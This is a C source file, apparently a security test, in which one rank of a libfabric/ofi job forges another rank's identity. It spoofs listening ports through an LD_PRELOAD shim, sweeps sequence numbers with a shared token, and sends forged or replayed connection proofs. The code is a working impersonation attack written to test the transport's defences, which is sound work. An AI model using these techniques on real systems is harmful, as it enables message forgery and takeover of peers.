/*
 * forge_takeover.c -- rank 2 of forge_test tries to become rank 1 towards
 * rank 0 (see forge_takeover.h; forge_test.c judges).  Two parts, one per
 * generation of the ofi conduit on tcp, both run whatever the conduit is:
 *
 * [rxm generation: today, FI_EP_RDM over tcp;ofi_rxm]  rxm names the peer
 * of a connection by the listening port the peer announces, and a second
 * request for a connected peer replaces the connection.  For each of rank
 * 1's listening ports we open a tcp;ofi_rxm endpoint whose listener
 * announces that port (sec_shim_set_port: getsockname lies) and send rank
 * 0's every port the forged messages with today's conduit header
 * (struct ofi_amh: rank 0's token, which every member holds, and every
 * sequence number 0..nseq-1, so that whichever rank 0 expects next from
 * rank 1 is among them).  Against the MSG generation these connection
 * requests carry rxm's data, not a struct ofi_cm_req: refused.
 *
 * [MSG generation: FI_EP_MSG, one connection per pair of paths,
 * authenticated with k_pair]  FI_EP_MSG connection requests to rank 0's
 * listener with a struct ofi_cm_req claiming rank 1 (every path), the job
 * id read from our own captured connection requests (sec_shim's
 * SEC_SHIM_CAPTURE), then as first message a proof with a random MAC (we
 * cannot know k_{0,1}), or the replay of a proof we sent ourselves, then
 * the forged messages.  Today rxm refuses these requests (its connection
 * data does not parse).
 *
 * Ports come from /proc (/proc/<pid>/fd and /proc/net/tcp: the ranks run as
 * our uid), as a hostile member would find them.
 */
#include "forge_takeover.h"
#include "sec_common.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <dlfcn.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>

#define SAY(...) do { printf("[2] takeover: "); printf(__VA_ARGS__); \
                      fflush(stdout); } while (0)
#define MAXP 64

/* Listening IPv4 ports of pid, in the order of their file descriptors:
 * the conduit creates its paths in order, each listener when its endpoint
 * is enabled, so the k-th is path k's (rank 0 drops a message whose AM
 * header names another path than the connection's: we must claim the
 * right one). */
static size_t listen_ports(pid_t pid, unsigned *out)
{
    struct { int fd; unsigned long ino; } s[256];
    size_t ns = 0, n = 0;
    char path[64], l[512], tgt[64];
    snprintf(path, sizeof path, "/proc/%d/fd", (int)pid);
    DIR *d = opendir(path);
    struct dirent *de;
    while (d && (de = readdir(d)) != NULL && ns < 256) {
        snprintf(l, sizeof l, "%s/%s", path, de->d_name);
        ssize_t k = readlink(l, tgt, sizeof tgt - 1);
        if (k <= 0)
            continue;
        tgt[k] = '\0';
        if (sscanf(tgt, "socket:[%lu]", &s[ns].ino) != 1)
            continue;
        s[ns].fd = atoi(de->d_name);
        for (size_t i = ns++; i > 0 && s[i - 1].fd > s[i].fd; i--) {
            int fd = s[i].fd;
            unsigned long ino = s[i].ino;
            s[i] = s[i - 1];
            s[i - 1].fd = fd;
            s[i - 1].ino = ino;
        }
    }
    if (d)
        closedir(d);
    unsigned lport[512];
    unsigned long linode[512];
    size_t nl = 0;
    FILE *f = fopen("/proc/net/tcp", "r");
    while (f && fgets(l, sizeof l, f) && nl < 512) {
        unsigned lp, st;
        unsigned long inode;
        if (sscanf(l, " %*u: %*x:%x %*x:%*x %x %*x:%*x %*x:%*x %*x %*u %*d %lu",
                   &lp, &st, &inode) == 3 && st == 0x0A) {
            lport[nl] = lp;
            linode[nl++] = inode;
        }
    }
    if (f)
        fclose(f);
    for (size_t i = 0; i < ns && n < MAXP; i++)
        for (size_t k = 0; k < nl; k++)
            if (linode[k] == s[i].ino)
                out[n++] = lport[k];
    return n;
}

static struct sockaddr_in lo_port(unsigned port)
{
    struct sockaddr_in a = {.sin_family = AF_INET,
                            .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

static struct fi_info *ft_getinfo(int type, const char *prov)
{
    struct fi_info *h = fi_allocinfo(), *info = NULL;
    if (!h)
        return NULL;
    h->caps = FI_MSG;
    h->mode = FI_CONTEXT | FI_CONTEXT2;
    h->ep_attr->type = (enum fi_ep_type)type;
    h->addr_format = FI_SOCKADDR_IN;
    h->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR |
                              FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    h->domain_attr->av_type = FI_AV_TABLE;
    h->fabric_attr->prov_name = strdup(prov);
    if (fi_getinfo(FI_VERSION(1, 17), "127.0.0.1", NULL, FI_SOURCE, h, &info))
        info = NULL;
    fi_freeinfo(h);
    return info;
}

/* Completions are counted, never looked at: we learn nothing from them
 * that rank 0's handler does not tell better. */
static void drain(struct fid_cq *cq)
{
    struct fi_cq_entry e[16];
    struct fi_cq_err_entry ee;
    for (;;) {
        ssize_t n = fi_cq_read(cq, e, 16);
        if (n == -FI_EAVAIL) {
            memset(&ee, 0, sizeof ee);
            fi_cq_readerr(cq, &ee, 0);
        } else if (n <= 0) {
            return;
        }
    }
}

/* Sends len bytes, waiting for the connection at most `wait` s. */
static int send_wait(struct fid_ep *ep, struct fid_cq *cq, void *buf,
                     size_t len, fi_addr_t to, double wait)
{
    static struct fi_context2 ctx[8192];
    static unsigned next;
    double t0 = sec_now_s();
    ssize_t r;
    while ((r = fi_send(ep, buf, len, NULL, to, &ctx[next++ % 8192])) ==
           -FI_EAGAIN && sec_now_s() - t0 < wait)
        drain(cq);
    return r == 0;
}

/* ---------------------------------------------------- rxm generation */

static void attack_rxm(const struct ft_target *t, struct ft_report *r,
                       void (*set_port)(unsigned), const unsigned *p0,
                       size_t n0, const unsigned *p1, size_t n1)
{
    struct fi_info *info = ft_getinfo(FI_EP_RDM, "tcp;ofi_rxm");
    struct fid_fabric *fab = NULL;
    struct fid_domain *dom = NULL;
    struct fid_cq *cq = NULL;
    struct fi_cq_attr ca = {.format = FI_CQ_FORMAT_CONTEXT, .size = 8192};
    if (!info || fi_fabric(info->fabric_attr, &fab, NULL) ||
        fi_domain(fab, info, &dom, NULL) || fi_cq_open(dom, &ca, &cq, NULL)) {
        SAY("rxm part not run: cannot open tcp;ofi_rxm\n");
        goto out;
    }
#define RING 8192
    static uint8_t ring[RING][128];
    unsigned nring = 0;
    struct fid_ep *ep[MAXP] = {0};
    struct fid_av *av[MAXP] = {0};
    for (size_t j = 0; j < n1; j++) {
        struct fi_av_attr aa = {.type = FI_AV_TABLE, .count = MAXP};
        set_port(p1[j]);
        int ret = fi_av_open(dom, &aa, &av[j], NULL);
        if (!ret) ret = fi_endpoint(dom, info, &ep[j], NULL);
        if (!ret) ret = fi_ep_bind(ep[j], &av[j]->fid, 0);
        if (!ret) ret = fi_ep_bind(ep[j], &cq->fid, FI_TRANSMIT | FI_RECV);
        if (!ret) ret = fi_enable(ep[j]);
        set_port(0);
        if (ret) {
            SAY("endpoint announcing port %u: %s\n", p1[j], fi_strerror(-ret));
            continue;
        }
        r->rxm_eps++;
        for (size_t k = 0; k < n0; k++) {
            struct sockaddr_in a = lo_port(p0[k]);
            fi_addr_t fa;
            if (fi_av_insert(av[j], &a, 1, &fa, 0, NULL) != 1)
                continue;
            unsigned sent = 0;
            /* Sequence numbers 0..2*nseq-1, the two messages in turn: a
             * run that starts at the one rank 0 expects is delivered.
             * Each send has its own buffer (the provider may read it
             * until the completion, which we never wait for). */
            for (unsigned s = 0; s < 2 * t->nseq; s++) {
                const int m = (int)(s & 1);
                uint8_t *b = ring[nring++ % RING];
                uint32_t seq = s, rsvd = 0;
                uint16_t sp = (uint16_t)j;
                /* struct ofi_amh: u64 token, u32 seq, u32 rsvd = 0 */
                memcpy(b, &t->token0, 8);
                memcpy(b + 8, &seq, 4);
                memcpy(b + 12, &rsvd, 4);
                memcpy(b + 16, t->am[m], t->am_len[m]);
                /* firehose/am_wire.h: bytes 4-5 are src_path */
                memcpy(b + 16 + 4, &sp, 2);
                /* the first send connects; give it 1 s */
                if (!send_wait(ep[j], cq, b, 16 + t->am_len[m], fa,
                               sent ? 0.2 : 1.0))
                    break;
                sent++;
            }
            r->rxm_sent += sent;
            r->rxm_unsent += 2 * t->nseq - sent;
            SAY("rxm: as rank 1 (announcing port %u) to rank 0's port %u: "
                "%u forged messages posted, %u not\n", p1[j], p0[k], sent,
                2 * t->nseq - sent);
        }
    }
    for (double t0 = sec_now_s(); sec_now_s() - t0 < 0.5;)
        drain(cq);
    for (size_t j = 0; j < n1; j++) {
        if (ep[j]) fi_close(&ep[j]->fid);
        if (av[j]) fi_close(&av[j]->fid);
    }
out:
    if (cq) fi_close(&cq->fid);
    if (dom) fi_close(&dom->fid);
    if (fab) fi_close(&fab->fid);
    if (info) fi_freeinfo(info);
}

/* ---------------------------------------------------- MSG generation */

/* struct ofi_cm_req / struct ofi_cm_proof of issue 26's design (little
 * endian): magic "fhcm", version 1, kind 1 (request) / 3 (proof). */
#define CM_MAGIC 0x6d636866u

/* The first struct ofi_cm_<kind> (56 or 40 bytes) in our own capture. */
static int find_cm(uint16_t kind, uint8_t *out, size_t len)
{
    const char *cap = getenv("SEC_SHIM_CAPTURE");
    char path[4096], line[16384];
    if (!cap)
        return 0;
    snprintf(path, sizeof path, "%s.%d", cap, (int)getpid());
    FILE *f = fopen(path, "r");
    int found = 0;
    while (f && !found && fgets(line, sizeof line, f)) {
        int off = 0;
        if (sscanf(line, "c %*d %*u %*u %*u %n", &off) != 0 || off == 0)
            continue;
        uint8_t b[8192];
        size_t n = 0;
        for (const char *h = line + off; n < sizeof b &&
             sscanf(h, "%2hhx", &b[n]) == 1; h += 2)
            n++;
        for (size_t o = 0; o + len <= n && !found; o++) {
            uint32_t m;
            uint16_t v, k;
            memcpy(&m, b + o, 4);
            memcpy(&v, b + o + 4, 2);
            memcpy(&k, b + o + 6, 2);
            if (m == CM_MAGIC && v == 1 && k == kind) {
                memcpy(out, b + o, len);
                found = 1;
            }
        }
    }
    if (f)
        fclose(f);
    return found;
}

static void attack_msg(const struct ft_target *t, struct ft_report *r,
                       const unsigned *p0, size_t n0)
{
    uint8_t own_req[56], proof_seen[40];
    int have_req = find_cm(1, own_req, sizeof own_req);
    int have_proof = find_cm(3, proof_seen, sizeof proof_seen);
    SAY("msg: our own captured connections hold %s ofi_cm_req and %s "
        "ofi_cm_proof%s\n", have_req ? "an" : "no", have_proof ? "an" : "no",
        have_req ? "" : " (the conduit is not the MSG generation: the job "
        "id is guessed)");
    struct fi_info *info = ft_getinfo(FI_EP_MSG, "tcp");
    struct fid_fabric *fab = NULL;
    struct fid_domain *dom = NULL;
    struct fid_eq *eq = NULL;
    struct fid_cq *cq = NULL;
    struct fi_cq_attr ca = {.format = FI_CQ_FORMAT_CONTEXT, .size = 4096};
    struct fi_eq_attr ea = {.size = 256, .wait_obj = FI_WAIT_UNSPEC};
    if (!info || fi_fabric(info->fabric_attr, &fab, NULL) ||
        fi_domain(fab, info, &dom, NULL) || fi_cq_open(dom, &ca, &cq, NULL) ||
        fi_eq_open(fab, &ea, &eq, NULL)) {
        SAY("msg part not run: cannot open tcp FI_EP_MSG\n");
        goto out;
    }
    struct fid_ep *ep[2 * MAXP] = {0};
    int state[2 * MAXP] = {0};   /* 0 waiting, 1 connected, 2 over */
    size_t n = 0;
    for (size_t k = 0; k < n0; k++)
        for (int p = 0; p < t->npaths && n < 2 * MAXP; p++, n++) {
            /* claims rank 1 path p towards rank 0 path p */
            uint8_t req[56];
            uint32_t v32[6] = {CM_MAGIC, 1u | 1u << 16, 1, (uint32_t)p, 0,
                               (uint32_t)p};
            memcpy(req, v32, 24);          /* magic, version|kind, src, dst */
            if (have_req)
                memcpy(req + 24, own_req + 24, 16);   /* the job id */
            else
                getrandom(req + 24, 16, 0);
            getrandom(req + 40, 16, 0);     /* nonce */
            struct sockaddr_in a = lo_port(p0[k]);
            int ret = fi_endpoint(dom, info, &ep[n], &state[n]);
            if (!ret) ret = fi_ep_bind(ep[n], &eq->fid, 0);
            if (!ret) ret = fi_ep_bind(ep[n], &cq->fid, FI_TRANSMIT | FI_RECV);
            if (!ret) ret = fi_enable(ep[n]);
            if (!ret) ret = fi_connect(ep[n], &a, req, sizeof req);
            if (ret) {
                SAY("msg: request to port %u not sent: %s\n", p0[k],
                    fi_strerror(-ret));
                state[n] = 2;
            } else {
                r->msg_tried++;
            }
        }
    static uint8_t proof[2 * MAXP][40];
    for (double t0 = sec_now_s(); sec_now_s() - t0 < t->seconds;) {
        struct fi_eq_cm_entry ent;
        uint32_t ev;
        ssize_t rd = fi_eq_read(eq, &ev, &ent, sizeof ent, 0);
        if (rd == -FI_EAVAIL) {
            struct fi_eq_err_entry ee;
            memset(&ee, 0, sizeof ee);
            if (fi_eq_readerr(eq, &ee, 0) > 0 && ee.fid && ee.fid->context) {
                int *st = ee.fid->context;
                if (*st == 0)
                    r->msg_refused++;
                *st = 2;
            }
        } else if (rd > 0 && ent.fid && ent.fid->context) {
            int *st = ent.fid->context;
            size_t i = (size_t)(st - state);
            if (ev == FI_CONNECTED && *st == 0) {
                *st = 1;
                r->msg_connected++;
                /* First message: a proof -- random, or one we saw. */
                uint32_t v32[2] = {CM_MAGIC, 1u | 3u << 16};
                memcpy(proof[i], v32, 8);
                getrandom(proof[i] + 8, 32, 0);
                if (have_proof && i % 2)
                    memcpy(proof[i], proof_seen, sizeof proof_seen);
                SAY("msg: request %zu CONNECTED; sending a %s proof and the "
                    "forged messages\n", i, have_proof && i % 2 ? "replayed"
                    : "random");
                send_wait(ep[i], cq, proof[i], 40, 0, 0.5);
                for (int m = 0; m < 2; m++)
                    send_wait(ep[i], cq, (void *)t->am[m], t->am_len[m], 0,
                              0.5);
            } else if (ev == FI_SHUTDOWN) {
                r->msg_closed += *st == 1;
                *st = 2;
            }
        }
        drain(cq);
    }
    for (size_t i = 0; i < n; i++)
        if (ep[i])
            fi_close(&ep[i]->fid);
out:
    if (cq) fi_close(&cq->fid);
    if (eq) fi_close(&eq->fid);
    if (dom) fi_close(&dom->fid);
    if (fab) fi_close(&fab->fid);
    if (info) fi_freeinfo(info);
}

int ft_attack(const struct ft_target *t, struct ft_report *r)
{
    memset(r, 0, sizeof *r);
    void (*set_port)(unsigned) =
        (void (*)(unsigned))dlsym(RTLD_DEFAULT, "sec_shim_set_port");
    unsigned p0[MAXP], p1[MAXP];
    size_t n0 = listen_ports(t->pid0, p0), n1 = listen_ports(t->pid1, p1);
    SAY("rank 0 (pid %d) listens on %zu ports, rank 1 (pid %d) on %zu\n",
        (int)t->pid0, n0, (int)t->pid1, n1);
    if (!set_port) {
        SAY("sec_shim_set_port not found: run with LD_PRELOAD=libsec_shim.so\n");
        return -1;
    }
    attack_rxm(t, r, set_port, p0, n0, p1, n1);
    attack_msg(t, r, p0, n0);
    return 0;
}
